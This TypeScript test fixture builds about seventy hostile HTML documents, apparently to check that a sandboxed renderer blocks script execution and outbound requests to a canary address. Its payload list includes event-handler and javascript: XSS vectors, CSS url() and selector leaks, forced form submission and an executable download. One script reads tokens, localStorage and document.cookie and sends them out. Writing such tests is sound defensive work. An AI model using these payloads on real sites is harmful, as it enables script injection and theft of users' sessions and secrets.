import { HOSTILE_MARKUP } from '../fidelity/hostile-markup.ts';

/** What script of these documents says to the console: no policy silences it. */
export const RAN = 7331;

/** `C` is the address that must not be asked, `X` what must not run. */
const DOCUMENTS: ReadonlyArray<string> = [
  '<script>X</script>',
  '<script src=C/script></script>',
  '<script type=module>import("C/module");X</script>',
  '<body onload=X>',
  '<body onpageshow=X><img src=C/pageshow>',
  '<svg onload=X></svg>',
  '<img src=data:, onerror=X>',
  '<input autofocus onfocus=X>',
  '<video autoplay oncanplay=X onerror=X><source src=C/media onerror=X></video>',
  '<style>@keyframes k{from{top:0}}p{animation:k 1ms}</style><p onanimationstart=X>p',
  '<details open ontoggle=X><summary>s</summary></details>',
  '<meta http-equiv=refresh content="0;url=C/refresh">',
  '<meta http-equiv=refresh content="0;url=javascript:X">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>X</script>">',
  '<meta http-equiv=Content-Security-Policy content="script-src *; img-src *; report-uri C/report"><img src=C/after-policy>',
  '<iframe src=C/frame></iframe>',
  '<iframe srcdoc="<script>X</script><img src=C/srcdoc>"></iframe>',
  '<iframe src="javascript:X"></iframe>',
  '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>X;top.location=`C/top`</script>"></iframe>',
  '<iframe src="data:text/html,<script>X;top.location=`C/data-top`</script><meta http-equiv=refresh content=0;url=C/data-refresh>"></iframe>',
  '<frameset><frame src=C/frameset></frameset>',
  '<object data=C/object></object><embed src=C/embed><applet code=C/applet></applet>',
  '<object type=text/html data="data:text/html,<script>X</script>"></object>',
  '<base href=C/base/><img src=relative>',
  '<base target=_top><a href=C/base-target id=a>a</a><script>a.click();X</script>',
  '<link rel=stylesheet href=C/sheet><link rel="alternate stylesheet" title=t href=C/alternate>',
  '<link rel=preload as=script href=C/preload><link rel=modulepreload href=C/modulepreload>',
  '<link rel=prefetch href=C/prefetch><link rel=prerender href=C/prerender><link rel=next href=C/next>',
  '<link rel=icon href=C/icon><link rel=apple-touch-icon href=C/touch><link rel=manifest href=C/manifest>',
  '<style>@import "C/import";@import url(C/import-url) screen;</style>',
  '<style>@font-face{font-family:f;src:url(C/font)}p{font-family:f}</style><p>p',
  '<style>p{background:url(C/background);border-image:url(C/border) 1;list-style:url(C/list);cursor:url(C/cursor),auto}</style><p>p',
  '<style>p{mask-image:url(C/mask);clip-path:url(C/clip#c);filter:url(C/filter#f);shape-outside:url(C/shape);float:left}</style><p>p',
  '<style>p::before{content:url(C/content)}p{background:image-set("C/set" 1x);--u:url(C/variable)}p::after{content:"";background:var(--u)}</style><p>p',
  '<input value=secret><style>input[value^=s]{background:url(C/selector)}</style>',
  '<img src=C/img><img srcset="C/srcset 2x"><picture><source srcset=C/source><img></picture><input type=image src=C/input>',
  '<img loading=lazy src=C/lazy><img crossorigin src=C/crossorigin><img ismap src=C/ismap>',
  '<audio src=C/audio autoplay></audio><video poster=C/poster src=C/video autoplay muted></video><video><track default src=C/track></video>',
  '<svg><image href=C/svg-image /><use href=C/svg-use#a /><filter id=f><feImage href=C/fe /></filter><rect filter=url(#f) width=9 height=9 /></svg>',
  '<svg><a href=C/svg-a><animate attributeName=href to=javascript:X begin=0s /><text y=20>t</text></a><set attributeName=onload to=X begin=0s /></svg>',
  '<img src="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27><image href=%27C/in-picture%27/><script>X</script></svg>">',
  '<?xml-stylesheet href="C/xsl" type="text/xsl"?><p>p',
  '<form id=f action=C/form method=post><input name=a></form><script>f.submit();X</script>',
  '<form action=C/autofocus-form><button autofocus onfocus="this.form.requestSubmit();X">b</button></form>',
  '<a id=a href=C/ping-a ping=C/ping target=_top>a</a><script>a.click();X</script>',
  '<a id=a href=C/download download=x.exe>a</a><script>a.click();X</script>',
  '<script>X;location=`C/location`</script>',
  '<script>X;open(`C/open`)</script>',
  '<script>X;top.location=`C/top-location`;parent.postMessage(`x`,`*`)</script>',
  '<script>X;fetch(`C/fetch`,{mode:`no-cors`});navigator.sendBeacon(`C/beacon`)</script>',
  '<script>X;new WebSocket(`C/socket`.replace(`http`,`ws`));new EventSource(`C/events`)</script>',
  '<script>X;new Worker(URL.createObjectURL(new Blob([`fetch("C/worker")`])))</script>',
  '<script>X;navigator.serviceWorker.register(`/page`)</script>',
  '<script type=speculationrules>{"prerender":[{"source":"list","urls":["C/speculation"]}]}</script><script>X</script>',
  '<script>X;alert(1);confirm(1);print()</script>',
  '<script>X;onbeforeunload=()=>1;history.pushState(1,``,`/somewhere`)</script>',
  '<script>X;document.write(`<img src=C/written>`)</script>',
  '<script>X;fetch(`/tokens`).then(r=>r.text()).then(t=>fetch(`C/stolen?`+t));fetch(`C/kept?`+localStorage.length+document.cookie)</script>',
  '<dialog open><form method=dialog action=C/dialog><button popovertarget=p>b</button></form></dialog><div popover id=p onbeforetoggle=X>p</div>',
  '<math href=C/math><maction actiontype="statusline#x" xlink:href=javascript:X>m</maction></math>',
  '<math><mi href=C/mi>x</mi><image href=C/math-image /><mglyph src=C/mglyph /></math><mglyph>g</mglyph>',
  '<set attributeName=onclick to=X></set><animate></animate><handler>X</handler><listener></listener><portal src=C/portal></portal><svg><portal src=C/portal /></svg>',
  '<p cursor="url( C/cursor" mask="image-set(\'C/mask\' 1x)">p</p><svg><rect mask="image-set(\'C/mask\' 1x)" fill="url(C/fill#a)" width=9 height=9 /></svg>',
  '<style>p{b:\\<url(C/escaped);--x:"C/string";background:image-set(var(--x) 1x)}@import "C/i" layer(a; @import url(C/j););</style><p style=\'--y:"C/own";background:image-set(var(--y) 1x)\'>p</p>',
  '<table background=C/table><tr><td background=C/cell>c</td></tr></table><body background=C/body>',
  '<marquee onstart=X>m</marquee><isindex action=C/isindex><keygen autofocus onfocus=X>',
  '<p style="background:url(C/inline);position:fixed;inset:0;z-index:99999">p<a href=C/overlay target=_top>all</a>',
];

/** Hostile documents, each with an address of its own under a canary in it. */
export function hostileDocuments(canary: string): readonly string[] {
  return [...DOCUMENTS.map(own), ...HOSTILE_MARKUP.map(borrowed)].map((fill, index) => {
    const address = `${canary}/d${index}`;
    return `<!doctype html><meta charset=utf-8><title>d${index}</title>${fill(address)}<p>the end of ${index}`;
  });
}

function own(text: string) {
  return (address: string) =>
    text
      .replaceAll(/\bC(?=\/)/g, address)
      .replaceAll(/\bX\b/g, `console.log(${RAN});new Image().src=\`${address}/ran\``);
}

function borrowed(text: string) {
  return (address: string) =>
    text
      .replaceAll(/(window|parent)\.pwned=1/g, `console.log(${RAN})`)
      .replaceAll(/(?<![/\w])\/pwned/g, `${address}/pwned`);
}
